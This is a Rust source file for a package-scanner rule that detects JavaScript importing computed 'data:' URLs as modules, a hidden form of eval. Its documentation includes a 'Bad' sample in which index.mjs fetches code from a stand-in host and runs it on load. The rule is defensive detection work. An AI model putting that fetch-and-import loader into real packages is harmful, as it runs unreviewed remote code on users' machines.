//! # A computed text is loaded as a module
//!
//! Code that runs by itself imports an address of the form `data:text/javascript,…` whose text is not in the
//! package, but computed or received.
//!
//! ## Why it matters
//!
//! It is `eval` under another name, and no search for `eval` or `Function` finds it.
//!
//! ## Known benign uses
//!
//! Tools that transpile import what they made, when they are called. Tests for a feature import a constant.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! const reply = await fetch("https://loader.invalid/a");
//! await import(`data:text/javascript,${encodeURIComponent(await reply.text())}`); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! export const hasModules = await import("data:text/javascript,export default 1").then(() => true, () => false);
//! export const run = (code) => import("data:text/javascript," + encodeURIComponent(code));
//! ```
//!
//! ## References
//!
//! - Node documentation: ECMAScript modules, `data:` imports

use crate::prelude::*;

/// A computed text is loaded as a module.
pub struct ComputedDataModuleLoaded;

impl Rule for ComputedDataModuleLoaded {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "computed-data-module-loaded",
            title: "A computed text is loaded as a module",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1059.007",
            covers: &["fetch-then-eval", "decode-then-exec"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for load in facts.loads().iter().filter(|load| load.specifier.is_none()) {
            let locus = facts.locus(load.spot);
            let text = facts.text(&locus.file);
            let text = text.get(locus.start..locus.end).unwrap_or_default();
            let is_data =
                text.contains("data:text/javascript") || text.contains("data:application/javascript");
            if is_data && load.trigger.runs_unwatched() {
                found.at(load.trigger, &locus, "loads a computed text as a module");
            }
        }
    }
}
